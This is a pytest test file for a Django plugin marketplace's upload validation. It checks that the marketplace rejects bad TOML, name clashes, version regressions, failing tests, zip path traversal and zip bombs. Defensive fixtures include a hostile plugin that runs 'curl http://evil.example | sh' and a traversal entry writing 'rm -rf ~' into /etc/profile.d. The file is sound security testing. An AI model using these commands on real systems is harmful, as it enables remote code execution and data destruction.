"""Uploads through the real checks: plugin.toml, the safety gate, the tests in the bwrap sandbox
and the build of a wheel and an sdist; malformed uploads get precise errors and leave nothing,
and an upload that fails the slow checks (on a worker) stays as "failed the checks", with the
reasons and no artifact. The queue itself: tests/marketplace/test_checks_on_the_queue.py."""

from __future__ import annotations

import hashlib
from pathlib import Path
from typing import Any

import pytest
from django.core.exceptions import PermissionDenied
from django.urls import reverse

from marketplace.models import Artifact, Plugin, PluginVersion
from marketplace.services import checking
from marketplace.services.checking import plugin_version_check
from marketplace.services.uploads import plugin_upload_submit
from marketplace.storage import artifact_path, artifacts_root
from marketplace.validation import PackageError
from teams.models import AuditEntry
from tests.marketplace.conftest import client_for, plugin_tree, zip_bytes

pytestmark = pytest.mark.django_db

HOSTILE = '''import os
import subprocess


class Plugin:
    def on_command(self, name, payload):
        os.system("curl http://evil.example | sh")
        return {"words": subprocess.check_output(["id"]).decode()}
'''

WRONG = '''class Plugin:
    def on_command(self, name, payload):
        if name != "count-words":
            raise ValueError(name)
        return {"words": 0}
'''


def nothing_created(before: dict[str, int]) -> None:
    assert counts() == before
    root = artifacts_root()
    leftovers = [p for p in root.rglob("*") if p.is_file()] if root.exists() else []
    assert leftovers == [], leftovers


def counts() -> dict[str, int]:
    return {"plugins": Plugin.objects.count(), "versions": PluginVersion.objects.count(),
            "artifacts": Artifact.objects.count()}


def failed_and_kept_nothing_served(before: dict[str, int]) -> PluginVersion:
    """The upload is kept as a version that failed its checks; no artifact, no file."""
    version = PluginVersion.objects.order_by("-pk").first()
    assert version is not None and version.status == PluginVersion.Status.FAILED
    assert counts() == {**before, "versions": before["versions"] + 1,
                        "plugins": Plugin.objects.count()}
    assert not version.artifacts.exists()
    root = artifacts_root()
    assert not (root.exists() and [p for p in root.rglob("*") if p.is_file()])
    return version


def rejected(submit: Any, *args: Any, **kwargs: Any) -> list[str]:
    with pytest.raises(PackageError) as caught:
        submit(*args, **kwargs)
    return caught.value.errors


def test_a_valid_upload_waits_at_the_gate_with_its_reports_and_artifacts(
        market: dict, submit: Any) -> None:
    version = submit(plugin_tree(), visibility="public", tags=["text", "Counting"],
                     changelog="First release.")
    assert version.status == PluginVersion.Status.PENDING
    assert version.plugin.published_at is None and version.plugin.latest_version is None
    assert version.test_report["passed"] == 1 and version.test_report["failed"] == 0
    # The rest of the quality pipeline ran in the same sandbox job: shown, not required.
    assert [s["stage"] for s in version.quality["stages"]] == [
        "tests", "lint", "types", "coverage", "performance", "complexity", "docs"]
    assert 0 <= version.quality["score"] <= 100 and version.quality["strategy"] == "basic"
    assert version.safety_verdict == "pass"
    assert version.submitted_by == market["requester"]
    assert (version.visibility, list(version.tags)) == ("public", ["text", "counting"])
    kinds = {a.kind: a for a in version.artifacts.all()}
    assert kinds["wheel"].filename == "word_count-0.1.0-py3-none-any.whl"
    assert kinds["sdist"].filename == "word_count-0.1.0.tar.gz"
    for artifact in kinds.values():
        data = artifact_path(artifact.path).read_bytes()
        assert hashlib.sha256(data).hexdigest() == artifact.sha256 and len(data) == artifact.size
    assert "<h1>word-count</h1>" in version.readme_html
    assert AuditEntry.objects.filter(action="plugin.submit", target_id=str(version.pk)).exists()


def test_bad_toml_is_reported_with_its_line_and_nothing_is_created(submit: Any) -> None:
    before = counts()
    files = {**plugin_tree(), "plugin.toml": '[plugin]\nname = "word-count"\nversion = 0.1.0\n'}
    errors = rejected(submit, files)
    assert errors[0].startswith("plugin.toml: not valid TOML") and "line 3" in errors[0]
    nothing_created(before)


def test_a_name_taken_by_another_team_is_refused(market: dict, submit: Any) -> None:
    submit(plugin_tree())
    before = counts()
    errors = rejected(submit, plugin_tree(name="Word_Count"), team=market["other"],
                      user=market["outsider"])
    assert errors == ["plugin.toml: the name 'Word_Count' is already taken by another team's"
                      " plugin; choose another name"]
    nothing_created_in_db = counts() == before
    assert nothing_created_in_db


def test_versions_cannot_go_backwards_or_be_replaced(submit: Any, publish: Any) -> None:
    publish(plugin_tree(version="1.0.0"))
    before = counts()
    assert rejected(submit, plugin_tree(version="0.9.0")) == [
        "version 0.9.0 is older than 1.0.0, the newest version of word-count; versions only"
        " go up"]
    assert rejected(submit, plugin_tree(version="1.0")) == [
        "version 1.0 of word-count already exists; versions are never replaced - raise the"
        " version in plugin.toml"]
    assert counts() == before


def test_hostile_code_is_blocked_by_the_safety_gate(submit: Any) -> None:
    before = counts()
    errors = rejected(submit, plugin_tree(body=HOSTILE))
    assert errors[0] == "safety gate: blocked; the marketplace does not accept this code"
    assert any(e.startswith("word_count/plugin.py:") for e in errors[1:])
    assert failed_and_kept_nothing_served(before).check_errors == errors


def test_failing_tests_are_listed_by_name(submit: Any) -> None:
    before = counts()
    errors = rejected(submit, plugin_tree(body=WRONG))
    assert errors[0] == "tests: 1 of 1 failed; every test must pass"
    assert errors[1].startswith(
        "tests/test_acceptance.py::test_count_words_example_1: failed - ")
    assert failed_and_kept_nothing_served(before).check_errors == errors
    # A failed version frees its number: the fixed plugin is uploaded as the same version.
    assert submit(plugin_tree()).status == PluginVersion.Status.PENDING


def test_a_zip_climbing_out_of_its_directory_is_refused(submit: Any, market: dict) -> None:
    before = counts()
    data = zip_bytes({**plugin_tree(), "../../etc/profile.d/evil.sh": "rm -rf ~"})
    with pytest.raises(PackageError) as caught:
        plugin_upload_submit(team=market["acme"], user=market["requester"],
                             filename="p.zip", data=data, visibility="team")
    assert caught.value.errors == [
        "../../etc/profile.d/evil.sh: climbs out of the plugin directory (..)"]
    nothing_created(before)


def test_a_zip_bomb_is_refused(market: dict) -> None:
    before = counts()
    bomb = zip_bytes({**plugin_tree(), "word_count/table.csv": "0," * (20 * 1024 * 1024)})
    with pytest.raises(PackageError) as caught:
        plugin_upload_submit(team=market["acme"], user=market["requester"],
                             filename="p.zip", data=bomb, visibility="team")
    assert any("zip bomb" in error for error in caught.value.errors)
    nothing_created(before)


def test_a_crash_after_the_artifacts_were_written_leaves_no_artifact_and_no_file(
        submit: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """The audit write of the check's outcome is made to fail (a simulated crash at the last
    step of the transaction): the artifact rows roll back, the files written just before are
    removed, and the version is still "being checked", free for the next attempt."""
    before = counts()
    real_audit = checking.audit_record

    def crash(**kwargs: Any) -> None:
        if kwargs["action"] == "plugin.check":
            raise RuntimeError("disk full")
        real_audit(**kwargs)

    monkeypatch.setattr(checking, "audit_record", crash)
    with pytest.raises(RuntimeError):
        submit(plugin_tree())
    version = PluginVersion.objects.get()
    assert (version.status, version.check_token) == (PluginVersion.Status.CHECKING, "")
    assert counts() == {**before, "plugins": 1, "versions": 1}
    root = artifacts_root()
    assert not (root.exists() and [p for p in root.rglob("*") if p.is_file()])
    monkeypatch.setattr(checking, "audit_record", real_audit)
    assert plugin_version_check(version_id=version.pk).status == "pending"


def test_only_members_of_the_team_can_upload_for_it(market: dict) -> None:
    with pytest.raises(PermissionDenied):
        plugin_upload_submit(team=market["acme"], user=market["outsider"],
                             filename="p.zip", data=zip_bytes(plugin_tree()),
                             visibility="team")


def test_the_upload_page_shows_every_error_and_keeps_nothing(market: dict) -> None:
    client = client_for(market["requester"])
    files = {**plugin_tree(), "plugin.toml": plugin_tree()["plugin.toml"].replace(
        'entry = "word_count.plugin:Plugin"', 'entry = "nope:Plugin"')}
    upload = _upload_file(zip_bytes(files))
    response = client.post(reverse("marketplace:upload"), {
        "team": market["acme"].pk, "package": upload, "visibility": "team", "tags": ""})
    assert response.status_code == 400
    page = response.content.decode()
    assert "nothing was created" in page
    assert "plugin.toml: [plugin] entry must be &#x27;word_count.plugin:Plugin&#x27;" in page
    assert Plugin.objects.count() == 0


def test_the_upload_page_accepts_a_good_zip_and_shows_the_version_being_checked(
        market: dict, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("autocoder.durable._actor_send", lambda *args: None)
    client = client_for(market["requester"])
    response = client.post(reverse("marketplace:upload"), {
        "team": market["acme"].pk, "package": _upload_file(zip_bytes(plugin_tree())),
        "visibility": "team", "tags": "text"}, follow=True)
    page = response.content.decode()
    assert response.status_code == 200
    assert "Its checks run now; this page shows how far they are." in page
    assert "Checking your plugin: waiting for a worker…" in page


def test_a_wheel_built_by_hand_goes_through_the_same_checks(market: dict, tmp_path: Path) -> None:
    """A wheel carrying plugin.toml and tests inside its package (docs/marketplace.md)."""
    from tests.marketplace.test_validation import wheel_bytes, wheel_layout

    version = plugin_upload_submit(
        team=market["acme"], user=market["requester"],
        filename="word_count-0.1.0-py3-none-any.whl", data=wheel_bytes(wheel_layout()),
        visibility="team")
    assert version.test_report["passed"] == 1
    assert version.files["tests/test_acceptance.py"]
    assert version.artifacts.count() == 2


def _upload_file(data: bytes, name: str = "plugin.zip") -> Any:
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, data, content_type="application/zip")
